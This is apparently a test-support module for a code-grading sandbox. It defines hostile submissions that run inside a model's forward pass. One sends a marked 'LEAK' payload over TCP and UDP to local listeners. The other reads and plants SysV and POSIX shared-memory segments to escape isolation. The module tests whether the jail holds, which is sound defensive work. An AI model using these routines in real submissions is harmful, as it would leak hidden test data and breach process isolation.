"""Hostile submissions that reach out of the worker: the network and
memory shared with other processes, as data in the format of
``kit_tests/attacks.py`` (each body runs inside ``SelfAttention.forward``
and reports what it saw as ``ATTACK {json}``).

``@TARGETS@`` is a JSON object: ``tcp`` and ``udp`` (ports on 127.0.0.1
the test listens on), ``sysv`` (the key of a SysV shared-memory segment
and of a message queue the test made, readable by anyone), ``shm`` (the
name of a POSIX shared-memory object the test made in /dev/shm).
"""
from __future__ import annotations

import json

from kit_tests import attacks

ATTACKS: dict[str, str] = {
    # Send the forward's input (the hidden cases' among them) out: TCP and
    # UDP to a listener on this machine, IPv4 and IPv6.
    "network": '''
    import socket
    sent, errors = [], {}
    for family, host in ((socket.AF_INET, "127.0.0.1"),
                         (socket.AF_INET6, "::1")):
        for kind, port in ((socket.SOCK_STREAM, TARGETS["tcp"]),
                           (socket.SOCK_DGRAM, TARGETS["udp"])):
            shown = f"{family.name}/{kind.name}"
            try:
                s = socket.socket(family, kind)
            except OSError as exc:
                errors[shown] = f"socket: {exc}"
                continue
            try:
                s.settimeout(2)
                if kind == socket.SOCK_STREAM:
                    s.connect((host, port))
                    s.sendall(b"LEAK-" + MARK.encode())
                else:
                    s.sendto(b"LEAK-" + MARK.encode(), (host, port))
                sent.append(shown)
            except OSError as exc:
                errors[shown] = f"send: {exc}"
            finally:
                s.close()
    return {"sent": sent, "errors": sorted(set(errors.values()))[:4]}
''',
    # Read memory another process shared: a SysV segment, a SysV message
    # queue, a POSIX shared-memory object; and leave one for the next.
    "shared_memory": '''
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    read, errors = [], {}
    shm = libc.shmget(ctypes.c_int(TARGETS["sysv"]), ctypes.c_size_t(0), 0)
    if shm >= 0:
        at = libc.shmat(shm, None, 0)
        if at not in (None, ctypes.c_void_p(-1).value):
            read.append(ctypes.string_at(at, 32).split(b"\\0")[0].decode())
        else:
            errors["shmat"] = ctypes.get_errno()
    else:
        errors["shmget"] = ctypes.get_errno()
    queue = libc.msgget(ctypes.c_int(TARGETS["sysv"]), 0)
    if queue >= 0:
        buf = ctypes.create_string_buffer(128)
        n = libc.msgrcv(queue, buf, ctypes.c_size_t(100), ctypes.c_long(0),
                        0o4000)     # IPC_NOWAIT
        if n > 0:
            read.append(buf.raw[8:8 + n].decode(errors="replace"))
    else:
        errors["msgget"] = ctypes.get_errno()
    try:
        with open("/dev/shm/" + TARGETS["shm"], "rb") as f:
            read.append(f.read(64).decode(errors="replace"))
    except OSError as exc:
        errors["shm_open"] = exc.errno
    left = []
    try:
        with open(f"/dev/shm/left-{MARK}", "wb") as f:
            f.write(b"x")
        left.append("posix")
    except OSError:
        pass
    if libc.shmget(ctypes.c_int(0x5EED0000 + int(MARK, 16) % 0xFFFF),
                   ctypes.c_size_t(4096), 0o1666) >= 0:   # IPC_CREAT
        left.append("sysv")
    return {"read": read, "left": left, "errors": errors}
''',
}


def submission(name: str, targets: dict, mark: str) -> str:
    """The hostile module for attack ``name``."""
    body = ATTACKS[name].strip("\n")
    source = attacks.HARNESS.replace("@BODY@", body)
    source = source.replace("@TARGETS@", repr(json.dumps(targets)))
    return source.replace("@MARK@", repr(mark))


def run_unjailed(name: str, targets: dict, mark: str) -> dict:
    """Run attack ``name``'s body here, with no jail: the control that
    shows the attack works where nothing stops it."""
    namespace: dict = {}
    exec(compile(submission(name, targets, mark), f"<{name}>", "exec"),
         namespace)
    return namespace["attack"]()


__all__ = ["ATTACKS", "run_unjailed", "submission"]
